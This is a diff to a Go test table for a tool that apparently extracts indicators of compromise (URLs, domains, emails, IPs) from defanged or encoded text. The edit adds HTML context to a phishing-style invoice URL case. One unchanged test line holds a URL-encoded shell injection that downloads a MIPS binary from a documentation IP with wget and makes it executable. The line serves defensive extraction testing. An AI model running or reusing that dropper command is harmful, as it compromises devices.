@@ -161,7 +161,7 @@ var extractCases = []struct {
 	{"user@exa[.]mple(.)co{.}uk", []pair{em("user@exa.mple.co.uk"), d("exa.mple.co.uk")}},
 
 	// What realistic documents add.
-	{"href=3D\"https://invoice-secure-d=\nocs.com/view\"", urlRow("https://invoice-secure-docs.com/view", "invoice-secure-docs.com")},
+	{"<p>See the statement: <a href=3D\"https://invoice-secure-d=\nocs.com/view\"", urlRow("https://invoice-secure-docs.com/view", "invoice-secure-docs.com")},
 	{"Chrome/131.0.0.0 and build 2.7.1.0", nil},
 	{"$(cd%20/tmp;%20wget%20http://203.0.113.201/bins/mips;%20chmod%20777%20mips)", []pair{u("http://203.0.113.201/bins/mips"), v4("203.0.113.201")}},
 	{"http://a.example.com/?a=1&amp;b=2", urlRow("http://a.example.com/?a=1&b=2", "a.example.com")},
